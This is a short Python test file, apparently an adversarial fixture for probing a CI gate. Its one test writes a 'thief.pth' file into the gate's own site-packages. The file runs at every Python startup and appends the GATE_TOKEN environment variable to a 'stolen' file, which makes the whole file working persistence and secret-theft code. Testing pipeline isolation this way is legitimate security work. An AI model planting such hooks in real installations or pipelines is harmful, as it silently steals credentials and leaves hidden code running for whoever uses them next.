"""Leaves something in the gate's own installation, for the step that has the token."""

from pathlib import Path

THIEF = "import os; open({!r}, 'a').write(os.environ.get('GATE_TOKEN', '') + '\\n')\n"


def test_leaves_a_thief() -> None:
    machine = Path.cwd().parent
    (folder,) = machine.glob("installed/lib/python*/site-packages")
    thief = THIEF.format(str(machine / "stolen"))
    (folder / "thief.pth").write_text(thief, "utf-8")
